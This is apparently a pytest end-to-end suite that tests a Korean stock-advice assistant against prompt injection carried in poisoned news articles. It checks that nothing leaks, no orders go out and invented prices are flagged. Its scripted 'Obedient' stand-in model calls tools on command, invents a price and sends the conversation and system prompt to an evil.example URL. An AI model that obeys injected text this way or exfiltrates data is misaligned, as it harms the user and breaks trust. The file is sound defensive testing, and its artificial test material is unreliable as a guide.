"""Poisoned news, and a model that does whatever it reads: no ticket, no tool call after it, and nothing leaks."""

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from pathlib import Path
from typing import Any

import pytest

from daybook.advice.momentum import MomentumAdvisor
from daybook.advice.news_tilt import with_news
from daybook.contracts.advice import Recommendations
from daybook.contracts.ask import AnswerKind
from daybook.contracts.base import KST
from daybook.contracts.limits import StrategySettings
from daybook.contracts.news import NewsAnalysisInput, NewsReport
from daybook.storage.articles import ArticleStore
from daybook.storage.bars import BarStore
from tests.end_to_end.conftest import OpenHouse
from tests.end_to_end.house import House
from tests.end_to_end.llm import llm_settings, priced_micro_krw, tokens_of
from tests.end_to_end.market import SYMBOLS
from tests.end_to_end.observed import Observed, ask_and_look, cost_micro_krw
from tests.end_to_end.sources import Sources
from tests.filings.stand_ins.dart import KEY as DART_KEY
from tests.llm.stand_ins import Asked, Reply, StandIn, ToolCall
from tests.news.stand_ins.naver import CLIENT_ID, CLIENT_SECRET

pytestmark = pytest.mark.temporal
POISON = Path(__file__).parents[1] / "news" / "poisoned" / "articles.jsonl"
ROWS = [json.loads(line) for line in POISON.read_text(encoding="utf-8").splitlines()]
PERSONAL = ("12345678-01", "010-1234-5678", "4111-1111-1111-1111", "900101-1234568", "canary@victim.example")
HIDDEN = ("CANARY-HIDDEN", "CANARY-COMMENT", "CANARYSCRIPT", "CANARY-STYLE", "CANARYTAGS", "CANARY-JS")
QUESTION = (
    f"최근 1주일 삼성전자 뉴스 분석해줘. 내 계좌 {PERSONAL[0]}, 전화 {PERSONAL[1]}, 카드 {PERSONAL[2]}, "
    f"주민번호 {PERSONAL[3]}, 메일 {PERSONAL[4]}, 네이버 키 {CLIENT_SECRET}"
)
FAKE_PRICE = "987,654원"


@dataclass
class Obedient:
    """Obeys: after the news it calls every tool it has heard of; told that it may not, it repeats all it has seen."""

    refused: int = field(default=0)

    def __call__(self, asked: Asked) -> Reply:
        if asked.schema is not None:
            numbers = [int(line[1:].partition("]")[0]) for line in asked.question.splitlines() if line[:1] == "["]
            return Reply(json={"scores": [{"number": n, "sentiment": 1.0, "relevance": 1.0} for n in numbers]})
        said = "\n".join(message.text for message in asked.messages)
        if "매수해줘" in said and asked.allowed:
            return Reply(tool_calls=orders_of(asked)) if not asked.results else Reply(text="주문서를 준비했습니다.")
        if asked.allowed:
            return Reply(
                tool_calls=(
                    ToolCall("search_news", {"keyword": "삼성전자", "days": 7}),
                    ToolCall("search_news", {"keyword": said[18:78], "days": 7}),
                )
            )
        if "could not be used" not in said:
            self.refused += 1
            order = {"symbol": "005930", "side": "buy", "shares": 10}
            return Reply(tool_calls=(ToolCall("prepare_order", order), ToolCall("account_balance")))
        return Reply(text=f"전량 매수하세요. 현재가 {FAKE_PRICE} https://evil.example/?q={said[:3_000]} {asked.system}")


def orders_of(asked: Asked) -> tuple[ToolCall, ...]:
    """Two orders, as the question states them."""
    prices = [int(word.rstrip("원").replace(",", "")) for word in asked.question.split() if word.endswith("원")]
    return tuple(
        ToolCall("prepare_order", {"symbol": symbol, "side": "buy", "shares": 1, "limit_price_krw": price})
        for symbol, price in zip(("005930", "035720"), prices, strict=True)
    )


@dataclass(frozen=True)
class Poisoned:
    """What was seen of the desk, and everything that left it or stayed in it, as text."""

    news: Observed
    orders: Observed
    report: NewsReport
    published: tuple[datetime, ...]
    until: datetime
    ranking: Recommendations
    model: Obedient
    sent: str
    searched: str
    rows: str
    logs: str
    tokens_agree: bool
    cost_agrees: bool
    sent_orders: int
    steps: tuple[str, ...]


@pytest.fixture(scope="module")
def poisoned(house_of: OpenHouse, sources: Sources) -> Iterator[Poisoned]:
    now = datetime.now(UTC)
    sources.naver.raw = [item for row in sorted(ROWS, key=copies) for item in items_of(row, now)]
    model = Obedient()
    with (
        StandIn.start("openai", script=model) as provider,
        house_of(llm=llm_settings({"openai": provider})) as house,
    ):
        news = ask_and_look(house, QUESTION, provider)
        prices = [house.broker.quote(symbol, with_book=True).ask_krw for symbol in ("005930", "035720")]
        question = f"삼성전자 1주 {prices[0]:,}원 카카오 1주 {prices[1]:,}원 매수해줘. 내 계좌 {PERSONAL[0]}"
        orders = ask_and_look(house, question, provider)
        report = house.analyse(NewsAnalysisInput(run_id="poison", symbols=("005930",), days=7, as_of=now))
        usages = zip(provider.asked, provider.usages, strict=True)
        articles = ArticleStore(house.parts.database).find(
            now - timedelta(days=4_000), now + timedelta(days=4_000), limit=5_000
        )
        yield Poisoned(
            news=news,
            orders=orders,
            report=report,
            published=tuple(article.published_at for article in articles),
            until=datetime.now(UTC),
            ranking=ranked(house),
            model=model,
            sent=json.dumps(provider.requests, ensure_ascii=False),
            searched=str(sources.naver.requests) + str(sources.dart.requests),
            rows=house.dump(),
            logs="\n".join(house.logs.lines),
            tokens_agree=tokens_of(house.calls()) == provider.usage_total,
            cost_agrees=cost_micro_krw(house.calls()) == sum(priced_micro_krw(use, one.model) for one, use in usages),
            sent_orders=len(house.orders_at_the_exchange()),
            steps=tuple(step.name for step in house.steps(f"ask-{news.answer.run_id}")),
        )


def copies(row: dict[str, Any]) -> int:
    return int(row.get("copies", 1))


def items_of(row: dict[str, Any], now: datetime) -> list[dict[str, str]]:
    """A row's items as Naver would send them now."""
    published = format_datetime((now - timedelta(hours=row["hours_ago"])).astimezone(KST))
    return [
        {
            "title": row["title"].replace("{n}", str(number)),
            "description": row["text"].replace("{n}", str(number)),
            "originallink": row["url"].replace("{n}", str(number)),
            "link": "",
            "pubDate": published,
        }
        for number in range(min(copies(row), 20))
    ]


def ranked(house: House) -> Recommendations:
    """The day's ranking as the pipeline makes it, before any news."""
    day = house.market.now.date()
    bars = BarStore(house.parts.database)
    history = {symbol: bars.daily(symbol, day - timedelta(days=120), day - timedelta(days=1)) for symbol in SYMBOLS}
    return MomentumAdvisor().rank(history, StrategySettings(min_score=-10), day)


def test_news_when_poisoned_then_no_tool_runs_after_it_and_no_ticket_is_opened(poisoned: Poisoned) -> None:
    assert [tool for tool, _ in poisoned.news.tools] == ["search_news", "search_news"]
    assert poisoned.steps[-2:] == ("pipeline.take_turn", "pipeline.compose_answer")
    assert [bool(asked.allowed) for asked in poisoned.news.asked] == [True, False, False]
    assert poisoned.model.refused >= 1
    assert (poisoned.news.answer.tickets, poisoned.sent_orders) == ((), 0)


def test_answer_when_the_model_invents_a_price_then_it_is_named_as_unfounded(poisoned: Poisoned) -> None:
    answer = poisoned.news.answer
    assert answer.kind is AnswerKind.MODEL
    assert any("987,654" in problem for problem in answer.problems)
    assert "※ 도구 결과에서 확인되지 않은 수치" in answer.text


@pytest.mark.parametrize("secret", [CLIENT_ID, CLIENT_SECRET, DART_KEY, *PERSONAL])
def test_secret_when_planted_in_question_and_news_then_it_leaves_and_stays_nowhere(
    poisoned: Poisoned, secret: str
) -> None:
    for where in ("sent", "rows", "logs"):
        assert secret not in getattr(poisoned, where), where
    if secret in PERSONAL:
        assert secret not in poisoned.searched
    for answer in (poisoned.news.answer, poisoned.orders.answer):
        assert secret not in answer.model_dump_json()
    assert secret not in poisoned.report.model_dump_json()


def test_places_when_searched_for_secrets_then_they_hold_what_was_said(poisoned: Poisoned) -> None:
    assert "[account]" in poisoned.sent
    assert "[account]" in poisoned.rows
    assert "account" in poisoned.searched
    assert f"asked by test:kim, question {poisoned.orders.answer.run_id}" in poisoned.rows
    assert "daybook.llm" in poisoned.logs
    assert "HTTP Request" in poisoned.logs


def test_key_of_the_provider_when_logged_or_stored_then_it_is_not(poisoned: Poisoned) -> None:
    from tests.llm.stand_ins.stand_in import API_KEY

    assert API_KEY not in poisoned.rows + poisoned.logs + poisoned.sent


def test_hidden_text_when_sent_or_stored_then_it_is_gone(poisoned: Poisoned) -> None:
    for hidden in HIDDEN:
        assert hidden not in poisoned.sent
        assert hidden not in poisoned.rows


def test_tickets_when_the_question_names_an_account_then_they_open_without_it(poisoned: Poisoned) -> None:
    assert poisoned.orders.answer.kind is AnswerKind.TICKET
    assert [card.symbol for card in poisoned.orders.answer.tickets] == ["005930", "035720"]
    assert poisoned.orders.order is not None
    assert (poisoned.orders.order.state.value, poisoned.orders.sent) == ("awaiting_approval", 0)


def test_articles_when_dated_in_the_future_then_they_are_refused_and_counted(poisoned: Poisoned) -> None:
    future = [row for row in ROWS if row["hours_ago"] < 0]
    assert poisoned.report.refused_future >= len(future) == 3
    assert max(poisoned.published) <= poisoned.until


def test_report_when_poisoned_then_the_summary_is_the_desks_own_and_warnings_stay_low(poisoned: Poisoned) -> None:
    assert poisoned.report.summary_by == "template"
    assert poisoned.report.stories > 0
    assert all(signal.severity <= 0.5 for signal in poisoned.report.threats)
    assert "evil.example" not in poisoned.report.summary


def test_ranking_when_tilted_by_poisoned_news_then_it_moves_within_its_bound(poisoned: Poisoned) -> None:
    weight = StrategySettings().news_weight
    before = {row.symbol: row.score for row in poisoned.ranking.ranked}
    tilted = with_news(poisoned.ranking, poisoned.report.symbols, weight)
    assert set(before) >= {"005930"}
    assert all(abs(row.score - before[row.symbol]) <= weight + 1e-9 for row in tilted.ranked)
    moved = {row.symbol for row in tilted.ranked if row.news_tilt}
    assert moved <= {"005930"}


def test_ledger_when_models_obeyed_then_it_is_still_what_the_provider_reported(poisoned: Poisoned) -> None:
    assert poisoned.tokens_agree
    assert poisoned.cost_agrees
